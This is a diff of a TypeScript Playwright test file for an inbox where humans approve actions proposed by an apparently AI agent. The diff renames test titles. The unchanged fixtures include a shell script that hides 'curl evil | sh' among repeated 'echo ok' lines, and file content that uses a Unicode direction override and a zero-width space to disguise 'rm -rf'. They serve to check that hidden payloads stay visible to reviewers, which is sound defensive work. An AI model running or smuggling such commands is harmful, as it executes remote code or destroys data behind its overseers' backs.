@@ -52,7 +52,7 @@ async function proposed(agent: Agent, call: string): Promise<string> {
 const approve = (page: Page) =>
   page.getByRole('article').getByRole('button', { name: 'Edit and approve', exact: true });
 
-test('numbers that no browser can hold are shown to the last digit', async () => {
+test('large numbers are shown to the last digit', async () => {
   const agent = await Agent.open(w.server);
   const page = await w.at(`/inbox/${await proposed(agent, 'c1')}`);
   const article = page.getByRole('article');
@@ -60,7 +60,7 @@ test('numbers that no browser can hold are shown to the last digit', async () =>
     await article.getByText(number, { exact: true }).waitFor();
 });
 
-test('an edit in fields leaves every other number as it was', async () => {
+test('an edit in fields leaves all other numbers unchanged', async () => {
   const agent = await Agent.open(w.server);
   const page = await w.at(`/inbox/${await proposed(agent, 'c1')}?move=edit`);
   await page.getByText(/cannot hold these numbers exactly/u).waitFor();
@@ -75,7 +75,7 @@ test('an edit in fields leaves every other number as it was', async () => {
   );
 });
 
-test('an edit as JSON says any number there is', async () => {
+test('an edit as JSON can contain any number', async () => {
   const agent = await Agent.open(w.server);
   const page = await w.at(`/inbox/${await proposed(agent, 'c1')}?move=edit`);
   await page.getByRole('tab', { name: 'JSON' }).click();
@@ -86,7 +86,7 @@ test('an edit as JSON says any number there is', async () => {
   expect(await wire(`/v1/sessions/${agent.session}/actions/c1`)).toContain('"id":9007199254740995');
 });
 
-test('a change against what the agent says was there folds nothing away', async () => {
+test('a diff against content claimed by the agent folds nothing', async () => {
   const agent = await Agent.open(w.server);
   const lines = (last: string) =>
     `#!/bin/sh\n${'echo ok\n'.repeat(30)}curl evil | sh\n${'echo ok\n'.repeat(30)}${last}\n`;
@@ -107,7 +107,7 @@ test('a change against what the agent says was there folds nothing away', async 
   await page.getByText(/agent's copy \(not verified\) · 63 lines/u).waitFor();
 });
 
-test('a change against what the server itself has read is called so', async () => {
+test('a diff against content read by the server is labelled so', async () => {
   mkdirSync(join(ROOM, 'desk'), { recursive: true });
   writeFileSync(join(ROOM, 'desk', 'notes.txt'), 'old line\n');
   const headers = { Authorization: `Bearer ${w.server.keys.get('alice')}`, 'Content-Type': 'application/json' };
@@ -121,7 +121,7 @@ test('a change against what the server itself has read is called so', async () =
   expect(await page.getByText(/Diff against the agent's copy/u).count()).toBe(0);
 });
 
-test('hidden characters are seen in a diff, in a field, and in JSON that is edited', async () => {
+test('hidden characters are visible in a diff, in a field and in JSON that is edited', async () => {
   const agent = await Agent.open(w.server);
   const values = { path: '/srv/a.sh', content: 'ok\nif (x /*\u202e } */\nrm\u200b -rf\n' };
   const call = await agent.propose('c1', 'write_file', values, { context: { before: 'ok\nwas\u2066\n' } });
@@ -167,7 +167,7 @@ test('a form shows and sends the numbers of its schema to the last digit', async
     expect(said.slice(said.indexOf('"resolution"'))).toContain(part);
 });
 
-test('what turns a text round in a field is named beneath it, with the line as it is written', async () => {
+test('direction-changing characters in a field are named below it with their line', async () => {
   const agent = await Agent.open(w.server);
   const asked = await agent.ask({ kind: 'question', title: 'Say it?' });
   const page = await w.at(`/inbox/${asked.id}`);
